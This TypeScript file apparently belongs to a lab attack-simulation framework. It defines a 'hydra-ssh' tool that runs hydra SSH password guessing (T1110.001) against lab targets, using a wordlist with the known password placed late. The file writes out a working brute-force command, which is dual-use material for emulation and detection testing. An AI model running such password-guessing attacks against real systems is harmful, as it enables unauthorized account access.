/** hydra SSH password guessing against the lab user (T1110.001 Password Guessing). */
import { join } from 'node:path';
import { z } from 'zod';
import { defineTool } from './tool.js';

/**
 * The wordlist: the first common passwords, with the real one inserted at `position` (1-based), so
 * hydra fails `position - 1` times before it succeeds, give or take its parallel tasks.
 */
export function bruteForceWordlist(common: string[], password: string, size: number, position: number): string[] {
  const others = common.filter((w) => w !== password).slice(0, size - 1);
  const at = Math.min(position - 1, others.length);
  return [...others.slice(0, at), password, ...others.slice(at)];
}

export const hydraSsh = defineTool({
  name: 'hydra-ssh',
  kind: 'attack',
  category: 'brute-force',
  technique: 'T1110.001',
  description: 'hydra ssh:// with a small wordlist holding the password late; stops at the first success',
  params: z.strictObject({
    /** Passwords in the list (bounds the attempts). */
    wordlistSize: z.number().int().min(2).max(200).default(24),
    /** Where the real password sits in the list, 1-based. */
    passwordPosition: z.number().int().min(1).max(200).default(20),
    /** hydra -t: parallel connections per target. */
    tasks: z.number().int().min(1).max(16).default(4),
  }),
  targetPorts: () => [22],
  plan: (p, ctx) => {
    const list = bruteForceWordlist(ctx.commonPasswords, ctx.user.password, p.wordlistSize, p.passwordPosition);
    const wordlist = join(ctx.toolDir, `${ctx.stepId}.wordlist.txt`);
    return {
      mode: 'parallel',
      files: { [wordlist]: `${list.join('\n')}\n` },
      commands: ctx.targets.map((t) => ({
        argv: [
          'hydra', '-I', '-f', '-t', String(p.tasks), '-l', ctx.user.name, '-P', wordlist,
          '-o', join(ctx.toolDir, `${ctx.stepId}.${t.name}.hydra.txt`), `ssh://${t.ip}:22`,
        ],
      })),
    };
  },
});
